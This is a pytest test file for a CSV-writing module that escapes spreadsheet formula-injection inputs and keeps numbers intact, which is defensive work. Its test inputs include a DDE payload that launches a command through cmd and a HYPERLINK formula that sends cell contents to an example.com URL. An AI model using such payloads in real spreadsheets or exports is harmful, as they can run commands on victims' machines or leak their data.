"""CSV cells: what a spreadsheet would run is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from floor.csv_cells import CsvWriter, neutralise, restore


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?x="&A1,"click")',
        "@SUM(1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-1+1",
        "=1",
        "\t=1+1",
        "\r=1+1",
        "+33 1 23 45 67 89",
        "-",
        "-١",  # a digit, but not an ASCII one
        "'=1+1",  # already apostrophed: one more, so it reads back as it was
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        5,
        Decimal("-1.250"),
        -0.5,
        "-5",  # a plain number as text: a spreadsheet reads a number, not a formula
        "+5",
        "-1.3",
        "-1,3",
        "1-2",
        "A01-03-2",
        "zoe@example.fr",
        "Paris",
        "'75008",
        "",
        "'",
    ],
)
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


@given(st.text())
def test_every_text_reads_back_as_it_was(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    # What is left starting like a formula is a plain number.
    assert cell[:1] not in set("=+-@\t\r") or re.fullmatch(r"[+-][0-9]+([.,][0-9]+)?", cell)


def test_the_writer_neutralises_every_cell_and_keeps_numbers() -> None:
    out = io.StringIO()
    writer = CsvWriter(out, ["sku", "description", "quantity", "note"])
    writer.writeheader()
    writer.writerow({"sku": "=A1", "description": "\r=1+1", "quantity": -5, "note": None})
    writer.writerow({"sku": "PLAIN", "description": "ok", "quantity": 3})
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        ["sku", "description", "quantity", "note"],
        ["'=A1", "'\r=1+1", "-5", ""],
        ["PLAIN", "ok", "3", ""],
    ]
    with pytest.raises(ValueError, match="extra"):
        writer.writerow({"sku": "X", "extra": 1})
